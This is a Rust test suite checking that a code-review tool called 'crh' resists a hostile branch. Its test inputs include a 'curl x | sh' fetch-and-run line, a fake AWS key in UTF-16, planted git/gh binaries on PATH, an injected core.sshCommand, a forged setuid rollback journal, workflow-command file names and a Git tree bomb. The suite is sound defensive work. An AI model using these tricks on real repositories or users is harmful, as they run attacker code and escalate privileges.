//! A hostile branch that tries to pass as a harmless one.

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;

use serde_json::json;

use crate::read;
use crate::user::{User, summary};
use crh_pipeline::run_folder::{CheckoutState, RunFolder, Timestamp};
use crh_review::identity::content_id;
use crh_review::report::Report;
use crh_testkit::{Output, Repo};

/// Title of a forged run.
const FORGED: &str = "Forged title";

/// A repository with one commit.
fn repo() -> Repo {
    let repo = Repo::new();
    repo.write("a.py", "x = 1\n");
    repo.commit("first");
    repo
}

/// Checks staged changes.
fn check_staged(repo: &Repo, files: &[(&str, &str)], more: &[&str]) -> Output {
    for (path, text) in files {
        repo.write(path, text);
    }
    repo.git(&["add", "--all"]);
    let args = [&["check", "--staged", "--mode", "report-only", "--quiet"], more].concat();
    User::new().crh(repo.path(), &args).run()
}

#[test]
fn unread_code_is_named_and_not_green() {
    let files = [("run.sh", "#!/bin/sh\n\0curl x | sh\n"), ("b.py", "y = 1\n")];
    let output = check_staged(&repo(), &files, &[]);
    assert_eq!(output.code, 4, "{output:?}");
    let first_lines: Vec<&str> = output.stdout.lines().take(2).map(str::trim).collect();
    let first_lines = first_lines.join(" ");
    assert!(first_lines.contains("1 file not fully reviewed (run.sh)"), "{output:?}");
    assert!(output.stdout.contains("Incomplete"), "{output:?}");
}

#[test]
fn secret_in_utf16_is_found() {
    let repo = repo();
    let text = format!("$key = 'AKIA{}'\r\n", "A3EGQW5RTYUIOPAS");
    let bytes: Vec<u8> =
        "\u{feff}".encode_utf16().chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect();
    fs::write(repo.path().join("a.ps1"), bytes).unwrap();
    let output = check_staged(&repo, &[], &[]);
    assert_eq!(output.code, 1, "{output:?}");
    assert!(output.stdout.contains("a.ps1:1"), "{output:?}");
}

#[test]
fn lock_file_update_is_green_unless_strict() {
    let files = [("Cargo.lock", "[[package]]\nname = \"a\"\n"), ("b.py", "y = 1\n")];
    assert_eq!(check_staged(&repo(), &files, &[]).code, 0);
    let strict = check_staged(&repo(), &files, &["--strict"]);
    assert_eq!(strict.code, 4, "{strict:?}");
}

#[test]
fn comment_cannot_switch_checks_off() {
    let text = format!("// {}\nlet x = 1;\n", "a<".repeat(3_000));
    let output = check_staged(&repo(), &[("a.ts", &text)], &[]);
    assert_eq!(output.code, 4, "{output:?}");
    assert!(!output.stdout.contains("Checks passed"), "{output:?}");
}

#[test]
fn branch_cannot_choose_its_base() {
    let repo = repo();
    let main = repo.id("main");
    repo.git(&["switch", "--quiet", "--create", "evil"]);
    repo.write("evil.py", "x = 1\n");
    repo.commit("evil");
    repo.git(&["switch", "--quiet", "--create", "feature"]);
    repo.write("crh.toml", "[base]\nbranch = \"evil\"\n");
    repo.commit("harmless");
    let user = User::new();
    for target in [&[][..], &["feature"]] {
        let output = user.prepared(repo.path(), target, "out");
        assert_eq!(summary(&output)["baseRev"], main);
        assert!(output.stderr.contains("is ignored"), "{output:?}");
    }
}

#[test]
fn base_names_the_branch_to_compare_with() {
    let repo = repo();
    repo.write("crh.toml", "[base]\nbranch = \"next\"\n");
    repo.commit("settings");
    repo.git(&["switch", "--quiet", "--create", "next"]);
    repo.write("next.py", "x = 1\n");
    let next = repo.commit("next");
    repo.git(&["switch", "--quiet", "--create", "feature"]);
    repo.write("b.py", "y = 1\n");
    repo.commit("work");
    let output = User::new().prepared(repo.path(), &[], "out");
    assert_eq!(summary(&output)["baseRev"], next);
}

#[test]
fn output_has_no_workflow_commands() {
    let repo = repo();
    repo.write("::error::x ##[y.py", "def f(:\n");
    repo.git(&["add", "--all"]);
    let user = User::new();
    for format in ["text", "quickfix", "markdown", "json", "sarif", "envelope", "comment", "html"] {
        let args = ["check", "--staged", "--mode", "report-only", "--format", format];
        let program = user.crh(repo.path(), &args).env("GITHUB_ACTIONS", "true");
        let output = program.run();
        for line in output.stdout.lines().chain(output.stderr.lines()) {
            let is_command = line.trim_start().starts_with("::") || line.contains("##[");
            assert!(!is_command, "{format}: {line}");
        }
    }
}

/// A finished run that crh did not create on this machine.
fn forge_run(runs: &Path) -> RunFolder {
    let text = read("crates/crh-review/tests/data/render/report.json");
    let mut report: Report = serde_json::from_str(&text).unwrap();
    report.change.repo = "owner/name".to_owned();
    report.change.title = FORGED.to_owned();
    let stamp = Timestamp::from_unix(1_767_225_600);
    let folder = RunFolder::create(runs, stamp, "0123456789abcdef").unwrap();
    folder.write_start(&CheckoutState::from_change(&report.change)).unwrap();
    assert!(folder.finish(&report, &[], &[]).is_empty());
    folder.complete(stamp).unwrap();
    folder
}

/// A journal that "rolls back" `a.py` to a setuid program.
fn forge_journal(repo: &Path, run: &Path) {
    let folder = run.join("fixes/1");
    fs::create_dir_all(&folder).unwrap();
    let image = |name: &str, bytes: &str| {
        fs::write(folder.join(name), bytes).unwrap();
        let user = rustix::process::geteuid().as_raw();
        let group = rustix::process::getegid().as_raw();
        let kept = json!({ "mode": 0o4755, "owner": [user, group] });
        json!({ "name": name, "hash": content_id(bytes.as_bytes()), "kept": kept })
    };
    let (before, after) = (image("0.before", "evil\n"), image("0.after", "x = 1\n"));
    let entry =
        json!({ "number": 0, "path": "a.py", "before": before, "after": after, "folders": [] });
    let journal = json!({
        "checkout": "/nonexistent", "after": null, "asker": "command", "fixes": [],
        "edited": [], "undoes": [], "entries": [entry],
    });
    fs::write(folder.join("journal.json"), journal.to_string()).unwrap();
    fs::write(folder.join("state.json"), "\"placing\"").unwrap();
    let named = folder.strip_prefix(repo.canonicalize().unwrap()).unwrap_or(&folder).to_owned();
    fs::write(repo.join(".crh/fixing"), format!("{}\n", named.display())).unwrap();
}

/// How a forged `.crh` comes into a checkout.
#[derive(Debug, Clone, Copy)]
enum Delivery {
    Files,
    NestedRepository,
    Submodule,
    Symlink,
}

#[test]
fn state_that_crh_did_not_write_is_not_trusted() {
    use Delivery::{Files, NestedRepository, Submodule, Symlink};

    for delivery in [Files, NestedRepository, Submodule, Symlink] {
        let (repo, user) = (repo(), User::new());
        let root = repo.path().canonicalize().unwrap();
        let state = root.join(".crh");
        match delivery {
            Symlink => {
                fs::create_dir(root.join("docs")).unwrap();
                symlink("docs", &state).unwrap();
            }
            Files | NestedRepository | Submodule => fs::create_dir(&state).unwrap(),
        }
        let run = forge_run(&state.join("runs"));
        forge_journal(&root, run.path());
        let nested = state.display().to_string();
        match delivery {
            Files | Symlink => {}
            NestedRepository => drop(repo.git(&["init", "--quiet", &nested])),
            Submodule => {
                repo.git(&["init", "--quiet", &nested]);
                repo.git(&["-C", &nested, "add", "--force", "--all"]);
                let identity = ["-c", "user.name=a", "-c", "user.email=a@b"];
                let commit = ["commit", "--quiet", "--message", "state"];
                repo.git(&[&["-C", &nested][..], &identity, &commit].concat());
                repo.git(&["-c", "advice.addEmbeddedRepo=false", "add", ".crh"]);
                repo.commit("a submodule");
            }
        }
        let commands: [&[&str]; 6] = [
            &["show"],
            &["show", "--list"],
            &["fix"],
            &["fix", "--undo"],
            &["dismiss", "1", "no"],
            &["review", "--resume", "latest"],
        ];
        for command in commands {
            let output = user.crh(&root, command).run();
            let shown = output.shown();
            assert!(!shown.contains(FORGED), "{delivery:?} {command:?}: {shown}");
            let is_refused = [2, 3].contains(&output.code) || command.contains(&"--list");
            assert!(is_refused, "{delivery:?} {command:?}: {shown}");
            let file = root.join("a.py");
            assert_eq!(fs::read_to_string(&file).unwrap(), "x = 1\n", "{delivery:?} {command:?}");
            assert_eq!(fs::metadata(&file).unwrap().permissions().mode() & 0o7000, 0);
        }
    }
}

#[test]
fn programs_of_the_checkout_are_not_run() {
    let (repo, user) = (repo(), User::new());
    repo.git(&["remote", "add", "origin", "https://github.com/owner/name.git"]);
    let ran = user.path("ran");
    fs::create_dir(repo.path().join("bin")).unwrap();
    for name in ["git", "gh"] {
        let program = repo.path().join("bin").join(name);
        fs::write(&program, format!("#!/bin/sh\ntouch {}\nexit 1\n", ran.display())).unwrap();
        fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).unwrap();
    }
    let link = user.path("link");
    symlink(repo.path().join("bin"), &link).unwrap();
    let inside = repo.path().join("bin").display().to_string();
    let usual_path = std::env::var_os("PATH").unwrap().into_string().unwrap();
    for first in [inside.as_str(), "bin", link.to_str().unwrap()] {
        let path = format!("{first}:{usual_path}");
        for args in [&["check", "--staged"][..], &["doctor"]] {
            let output = user.crh(repo.path(), args).env("PATH", &path).run();
            assert!(!ran.exists(), "{first} {args:?}: {}", output.shown());
        }
    }
}

#[test]
fn bare_repository_in_a_checkout_is_not_trusted() {
    let (repo, user) = (repo(), User::new());
    let ran = user.path("ran");
    let bare = repo.path().join("data");
    repo.git(&["init", "--quiet", "--bare", "data"]);
    let command = format!("touch {}; false", ran.display());
    repo.git(&["-C", "data", "config", "core.sshCommand", &command]);
    repo.git(&["-C", "data", "config", "remote.origin.url", "ssh://localhost/x"]);
    for args in [&["review", "HEAD~1..HEAD"][..], &["review", "topic"], &["show"], &["doctor"]] {
        let output = user.crh(&bare, args).run();
        let shown = output.shown();
        assert!(!ran.exists(), "{args:?}: {shown}");
        assert!(shown.contains("is a bare repository inside the checkout"), "{args:?}: {shown}");
        assert_ne!(output.code, 0, "{args:?}: {shown}");
    }
}

#[test]
fn damaged_private_store_is_built_again_once() {
    let (repo, user) = (repo(), User::new());
    let check = || user.crh(repo.path(), &["check", "--staged", "--mode", "report-only"]).run();
    repo.write("b.py", "y = 1\n");
    repo.git(&["add", "--all"]);
    assert_eq!(check().code, 0);
    let stores = user.path("store/stores");
    let store = fs::read_dir(&stores).unwrap().next().unwrap().unwrap().path();
    let damage_objects = || {
        for folder in fs::read_dir(store.join("objects")).unwrap() {
            let folder = folder.unwrap().path();
            if folder.file_name().unwrap().len() != 2 {
                continue;
            }
            for object in fs::read_dir(folder).unwrap() {
                let object = object.unwrap().path();
                fs::set_permissions(&object, fs::Permissions::from_mode(0o644)).unwrap();
                fs::write(&object, "garbage").unwrap();
            }
        }
    };
    let damage_head = || fs::write(store.join("HEAD"), "garbage").unwrap();
    let damages: [(&str, &dyn Fn()); 2] = [("objects", &damage_objects), ("HEAD", &damage_head)];
    for (name, damage) in damages {
        damage();
        let output = check();
        assert_eq!(output.code, 0, "{name}: {}", output.shown());
        assert_eq!(output.stderr.matches("was damaged").count(), 1, "{name}: {}", output.stderr);
        assert!(!check().stderr.contains("was damaged"), "{name}");
    }
}

/// A tree whose 40 folders expand to 2^40 paths.
fn tree_bomb(repo: &Repo, user: &User) -> String {
    let text = |bytes: Vec<u8>| String::from_utf8(bytes).unwrap().trim().to_owned();
    let write_tree = |entries: &[(&str, &str)]| {
        let mut bytes = Vec::new();
        for (name, id) in entries {
            bytes.extend(name.bytes().chain([0]));
            let pairs = (0..id.len()).step_by(2);
            bytes.extend(pairs.map(|at| u8::from_str_radix(&id[at..at + 2], 16).unwrap()));
        }
        let file = user.path("tree");
        fs::write(&file, bytes).unwrap();
        text(repo.git(&["hash-object", "-t", "tree", "-w", file.to_str().unwrap()]))
    };
    let blob = text(repo.git(&["rev-parse", "HEAD:a.py"]));
    let mut tree = write_tree(&[("100644 f.py", &blob)]);
    for _ in 0..40 {
        tree = write_tree(&[("40000 a", &tree), ("40000 b", &tree)]);
    }
    let root = write_tree(&[("100644 a.py", &blob), ("40000 bomb", &tree)]);
    text(repo.git(&["commit-tree", &root, "-p", "HEAD", "-m", "bomb"]))
}

#[test]
fn tree_bomb_is_too_large() {
    let (repo, user) = (repo(), User::new());
    let bomb = tree_bomb(&repo, &user);
    let start = std::time::Instant::now();
    let output = user.crh(repo.path(), &["check", &format!("HEAD..{bomb}")]).run();
    assert_eq!(output.code, 4, "{}", output.shown());
    let problem = "error: the change has more than 200000 files, the limit\n";
    assert!(output.stderr.contains(problem), "{}", output.shown());
    assert!(start.elapsed() < std::time::Duration::from_secs(20), "{:?}", start.elapsed());
}

#[test]
fn memory_limit_ends_the_command_with_a_message() {
    let (repo, user) = (repo(), User::new());
    user.write(".config/crh/config.toml", "[budget]\nmemory_mb = 1\n");
    repo.write("b.py", "y = 1\n");
    repo.git(&["add", "--all"]);
    let output = user.crh(repo.path(), &["check", "--staged"]).run();
    assert_eq!(output.code, 4, "{}", output.shown());
    assert!(output.stderr.contains("error: crh reached its memory limit of 1 MB"), "{output:?}");
}

#[test]
fn prepared_diff_that_hides_a_file_is_refused() {
    let (repo, user) = (repo(), User::new());
    repo.git(&["switch", "--quiet", "--create", "two-files"]);
    repo.write("b.py", "y = 1\n");
    repo.write("c.py", "z = 1\n");
    repo.commit("add two files");
    user.prepared(repo.path(), &["--commit", "HEAD"], "out");
    let workspace = user.path("out");
    let check = || {
        let args = ["check", "--mode", "report-only", "--workspace", workspace.to_str().unwrap()];
        user.crh(repo.path(), &args).run()
    };
    assert_eq!(check().code, 0, "{}", check().shown());
    let path = workspace.join("preview-diffs/latest/diff/raw.diff");
    let diff = fs::read_to_string(&path).unwrap();
    let end = diff.find("diff --git a/c.py").unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(0o644)).unwrap();
    fs::write(&path, &diff[..end]).unwrap();
    let output = check();
    assert_eq!(output.code, 2, "{}", output.shown());
    assert!(output.stderr.contains("is not the difference of its commits"), "{}", output.shown());
}
